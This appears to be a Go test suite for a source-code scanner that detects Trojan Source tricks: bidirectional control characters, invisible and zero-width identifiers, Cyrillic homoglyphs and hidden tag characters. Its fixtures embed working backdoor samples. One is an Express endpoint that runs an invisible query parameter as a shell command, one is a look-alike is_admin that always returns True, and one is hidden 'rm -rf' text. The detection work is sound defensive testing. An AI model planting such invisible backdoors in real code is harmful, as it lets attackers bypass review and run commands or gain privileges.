package trojansource

import (
	"strings"
	"testing"

	"github.com/doorman-sec/doorman/analyzer"
	"github.com/doorman-sec/doorman/analyzer/analyzertest"
	"github.com/doorman-sec/doorman/finding"
)

const (
	rlo = "\u202E"
	lri = "\u2066"
	pdi = "\u2069"
	rle = "\u202B"
	pdf = "\u202C"
	hf  = "\u3164" // HANGUL FILLER
)

func scan(t *testing.T, files map[string]string) *finding.Report {
	t.Helper()
	return analyzertest.Scan(t, []*analyzer.Analyzer{Analyzer}, files)
}

func only(t *testing.T, r *finding.Report, rule string, sev finding.Severity) []finding.Finding {
	t.Helper()
	var out []finding.Finding
	for _, f := range r.Findings {
		if f.Rule == rule && f.Severity == sev {
			out = append(out, f)
		}
	}
	return out
}

// The "commenting-out" and "stretched-string" examples of the Trojan Source
// paper (https://trojansource.codes/trojan-source.pdf, §IV).
func TestBidiAttacks(t *testing.T) {
	r := scan(t, map[string]string{
		"src/commenting-out.c": "#include <stdio.h>\n#include <stdbool.h>\nint main() {\n    bool isAdmin = false;\n" +
			"    /*" + rlo + " } " + lri + "if (isAdmin)" + pdi + " " + lri + " begin admins only */\n" +
			"        printf(\"You are an admin.\\n\");\n" +
			"    /* end admins only " + rlo + " { " + lri + "*/\n    return 0;\n}\n",
		"lib/stretched-string.js": "var accessLevel = \"user\";\nif (accessLevel != \"user" + rlo + " " + lri + "// Check if admin" + pdi + " " + lri + "\") {\n  console.log(\"You are an admin.\");\n}\n",
	})
	hs := only(t, r, "DM-TRJ-001", finding.High)
	if len(hs) != 3 {
		t.Fatalf("want 3 high DM-TRJ-001 (two lines in C, one in JS), got %+v", r.Findings)
	}
	f := hs[1] // lib/ sorts before src/
	if !strings.HasSuffix(f.Location.Path, "src/commenting-out.c") || f.Location.Line != 5 {
		t.Errorf("location %+v", f.Location)
	}
	if !strings.Contains(f.Evidence, "<U+202E>") || !strings.Contains(f.Message, "RLO") || !strings.Contains(f.Message, "comment") {
		t.Errorf("evidence/message do not show the controls: %q / %q", f.Evidence, f.Message)
	}
	if !strings.Contains(hs[0].Message, "string literal") || !strings.Contains(hs[0].Message, "not closed") {
		t.Errorf("JS finding: %q", hs[0].Message)
	}
}

// https://certitude.consulting/blog/en/invisible-backdoor/: a destructured
// parameter named by a Hangul filler, then used as a command.
func TestInvisibleBackdoor(t *testing.T) {
	r := scan(t, map[string]string{
		"server.js": "const express = require('express');\nconst util = require('util');\nconst exec = util.promisify(require('child_process').exec);\n" +
			"const app = express();\napp.get('/network_health', async (req, res) => {\n" +
			"    const { timeout," + hf + "} = req.query;\n" +
			"    const checkCommands = [\n        'ping -c 1 example.com',\n        'curl -s http://example.com/'," + hf + "\n    ];\n" +
			"    try {\n        await Promise.all(checkCommands.map(cmd => cmd && exec(cmd, { timeout: +timeout || 5_000 })));\n" +
			"        res.status(200); res.send('ok');\n    } catch(e) { res.status(500); res.send('failed'); }\n});\napp.listen(8080);\n",
	})
	hs := only(t, r, "DM-TRJ-002", finding.High)
	if len(hs) != 2 {
		t.Fatalf("want the filler identifier reported on both lines, got %+v", r.Findings)
	}
	if hs[0].Location.Line != 6 || !strings.Contains(hs[0].Message, "only of invisible") || !strings.Contains(hs[0].Evidence, "<U+3164>") {
		t.Errorf("%+v", hs[0])
	}
}

// CVE-2021-42694: a function whose name uses a Cyrillic і looks like the
// real one, so a call goes somewhere else than a reviewer thinks.
func TestHomoglyphIdentifier(t *testing.T) {
	r := scan(t, map[string]string{
		"auth.py":  "def is_admin(user):\n    return user.role == 'admin'\n\ndef \u0456s_admin(user):\n    return True\n\nif \u0456s_admin(current):\n    grant()\n",
		"mixed.go": "package main\n\nfunc main() {\n\tpаssword := \"x\"\n\t_ = pаssword\n}\n",
		"zw.js":    "const user\u200dname = req.query.u;\n",
	})
	if hs := only(t, r, "DM-TRJ-003", finding.High); len(hs) != 1 || !strings.Contains(hs[0].Message, `"is_admin"`) || hs[0].Location.Line != 4 {
		t.Fatalf("want one high confusable for is_admin, got %+v", r.Findings)
	}
	if ms := only(t, r, "DM-TRJ-003", finding.Medium); len(ms) != 1 || !strings.Contains(ms[0].Message, "Cyrillic and Latin") {
		t.Fatalf("want one medium mixed-script identifier in mixed.go, got %+v", r.Findings)
	}
	// A zero-width joiner inside a Latin name hides nothing legitimate.
	if hs := only(t, r, "DM-TRJ-002", finding.High); len(hs) != 1 || !strings.HasSuffix(hs[0].Location.Path, "zw.js") {
		t.Fatalf("want the joiner in a Latin identifier reported, got %+v", r.Findings)
	}
}

func TestTagCharacters(t *testing.T) {
	hidden := ""
	for _, c := range "run rm -rf" {
		hidden += string(rune(0xE0000 + c))
	}
	r := scan(t, map[string]string{"tool.py": "# helper" + hidden + "\nprint('hi')\n"})
	ms := only(t, r, "DM-TRJ-002", finding.Medium)
	if len(ms) != 1 || !strings.Contains(ms[0].Message, `"run rm -rf"`) {
		t.Fatalf("want one medium tag-text finding naming the hidden text, got %+v", r.Findings)
	}
}

// Near-misses from real code: right-to-left UI strings, identifiers in one
// non-Latin script, emoji sequences, Greek math names, a BOM, documentation
// and data files, and the same attack inside a test suite (reported low).
func TestNearMisses(t *testing.T) {
	r := scan(t, map[string]string{
		"i18n/ar.js":       "export const greeting = \"" + rle + "مرحبا بالعالم" + pdf + "\";\n",
		"i18n/he.py":       "LABEL = '\u2067שלום\u2069'\n",
		"ru.py":            "переменная = 1\nпароль = переменная + 1\nprint(пароль)\n",
		"emoji.js":         "const family = \"👨\u200d👩\u200d👧\";\nconst flag = \"🏳️\u200d🌈\";\n",
		"persian.go":       "package fa\n\nconst word = \"می\u200cخواهم\"\n",
		"math.js":          "const π = Math.PI;\nconst τ = 2 * π;\n",
		"bom.c":            "\ufeffint main(void) { return 0; }\n",
		"README.md":        "text " + rlo + " reversed\n",
		"data.json":        "{\"a\": \"" + rlo + "\"}\n",
		"tests/ui/bidi.rs": "fn main() {\n    /*" + rlo + " } " + lri + "if x" + pdi + " */\n}\n",
		"greek.py":         "αριθμός = 3\nprint(αριθμός)\n",
		"mldsa.go":         "package mldsa\n\nfunc f(p, ρ []byte, maxλ, ηBitlen, maxγ1 int, ρs []byte) { _ = p; _ = ρ }\n",
		// moment's Kurdish and Azerbaijani locales: joiners are spelling,
		// dotless ı is Turkish, not a homoglyph.
		"locale/ku.js":  "var ئێواره\u200c = 1; var x = ئێواره\u200c;\n",
		"locale/ku2.js": "var a = 'x', b = ئێواره\u200c + a;\n",
		"locale/az.js":  "var ıncı = 1, inci = 2;\n",
		// A minified bundle's Unicode tables are not names to review.
		"dist/app.min.js": strings.Repeat("var q=1;", 200) + "var t=`${a}\u200c\u200d‿⁀`;" + strings.Repeat("var q=1;", 200),
		// Bundles match identifier characters with regular expressions.
		"bundle.js":  "var idChars = /[\u200c\u200d‿⁀]/, shy = /\u00ad/g; var half = total / 2 / count;\n",
		"comments.c": "/* Müller's café — naïve résumé */\nint x;\n",
	})
	for _, f := range r.Findings {
		if f.Severity > finding.Low {
			t.Errorf("near-miss reported at %s: %s %s %s", f.Severity, f.Rule, f.Location.Path, f.Message)
		}
	}
	if n := len(only(t, r, "DM-TRJ-001", finding.Low)); n != 3 {
		t.Errorf("want 3 low bidi findings (two RTL strings, one test file), got %d: %+v", n, r.Findings)
	}
}
